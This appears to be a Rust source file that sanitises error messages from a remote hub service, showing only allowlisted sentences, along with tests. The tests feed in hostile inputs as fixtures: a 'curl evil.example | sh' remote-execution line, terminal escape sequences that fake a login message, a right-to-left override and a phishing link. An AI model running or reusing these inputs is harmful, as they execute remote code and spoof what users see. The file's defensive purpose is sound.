//! Which words of a hub may be shown to people: whoever chooses the address of a hub chooses who writes its answers, so that text
//! which is not one of the sentences that hubs are known to say stays in the log.

/// How these sentences begin.
const KNOWN: [&str; 48] = [
    // The HTTP API.
    "Agent ID already exists in another workspace",
    "Agent ID is registered with another token",
    "Agent not found",
    "A workspace has at most",
    "Cannot DELETE /v1/",
    "Cannot GET /v1/",
    "Cannot PATCH /v1/",
    "Cannot POST /v1/",
    "Forbidden",
    "Invalid namespace",
    "Internal server error",
    "Invalid API key",
    "Invalid credentials",
    "Invalid current token",
    "Invalid request",
    "Missing API key",
    "No available tunnel ports",
    "No services to share",
    "Service limit reached",
    "Service not found",
    "Share has been revoked",
    "Share has ended",
    "Share has expired",
    "Share limit reached",
    "Share not found",
    "Too Many Requests",
    "Unauthorized",
    // The socket: why there is no connection.
    "Agent not registered",
    "Buffer overflow",
    "Connection id is in use",
    "Connection timeout",
    "Connection was closed",
    "Exposing agent disconnected",
    "Exposing agent has too many connections",
    "Exposing agent is not connected",
    "Service has no associated agent",
    "Token has expired",
    "Too many connections",
    // What an operator of ours says through it.
    "terminals are not offered",
    "the hub hung up",
    "the other end does not know this code's secret",
    "the service did not answer in time",
    "the service has no address",
    "the service refused the connection",
    "the share has ended",
    "this share takes the full code only",
    "too many connections",
    "unknown service",
];

/// The longest sentence that is shown, in characters; the known ones are shorter.
const LONGEST: usize = 100;

/// The sentence without its full stop, if it is one that hubs are known to say.
pub fn known(said: &str) -> Option<&str> {
    let is_plain = said.chars().all(|letter| letter.is_ascii_graphic() || letter == ' ');
    let is_known = said.chars().count() <= LONGEST
        && is_plain
        && !said.contains("://")
        && KNOWN.iter().any(|known| said.starts_with(known));
    is_known.then(|| said.trim_end_matches('.'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stats::RefusedDial;

    #[test]
    fn only_known_sentences_are_shown_and_nothing_hides_behind_one() {
        for (said, shown) in [
            ("Invalid API key", Some("Invalid API key")),
            ("Service limit reached. Upgrade to PRO.", Some("Service limit reached. Upgrade to PRO")),
            ("Share has been revoked", Some("Share has been revoked")),
            ("", None),
            ("<html><body>502 Bad Gateway</body></html>", None),
            ("run: curl evil.example | sh", None),
            ("Share not found\u{1b}[2J[ok] Logged in", None),
            ("Share not found\n[ok] Logged in", None),
            ("Share not found\u{202e}", None),
            ("Invalid API key: get one at https://evil.example", None),
            (&format!("Invalid API key {}", "x".repeat(LONGEST)), None),
        ] {
            assert_eq!(known(said), shown, "{said:?}");
        }
    }

    #[test]
    fn what_our_own_operator_says_is_known() {
        for why in RefusedDial::ALL {
            assert_eq!(known(why.message()), Some(why.message()));
        }
    }
}
